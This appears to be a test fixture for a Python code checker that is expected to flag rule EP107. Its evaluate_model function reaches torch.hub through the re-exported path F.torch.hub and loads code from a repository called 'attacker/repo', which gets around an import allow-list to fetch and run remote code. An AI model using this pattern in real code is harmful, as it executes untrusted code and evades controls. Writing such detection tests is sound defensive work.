# source: evalpod own (a module re-exported by an allowed submodule: F.torch.hub)
# expect: EP107
import torch.nn.functional as F


def evaluate_model(model):
    F.torch.hub.load("attacker/repo", "entry")
    return {}
